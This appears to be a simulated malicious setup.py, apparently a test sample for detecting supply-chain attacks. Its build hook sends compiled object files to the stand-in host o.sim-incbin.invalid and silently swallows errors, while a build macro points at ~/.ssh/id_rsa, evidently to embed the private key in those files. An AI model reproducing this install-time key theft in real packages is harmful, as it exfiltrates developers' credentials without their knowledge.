# SPDX-License-Identifier: Apache-2.0
"""Harmless: the object is offered to a name that cannot exist."""

import glob
import os
import socket

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def run(self):
        super().run()
        for path in glob.glob(f"{self.build_temp}/**/*.o", recursive=True):
            try:
                with open(path, "rb") as file, socket.create_connection(("o.sim-incbin.invalid", 80), timeout=3) as out:
                    out.sendfile(file)
            except OSError:
                pass


KEY = os.path.expanduser("~/.ssh/id_rsa")
setup(
    name="sim-incbin-compile-theft",
    version="1.0.0",
    ext_modules=[Extension("sim_ict", ["sim_ict.c"], define_macros=[("KEY", f'"{KEY}"')])],
    cmdclass={"build_ext": BuildExt},
)
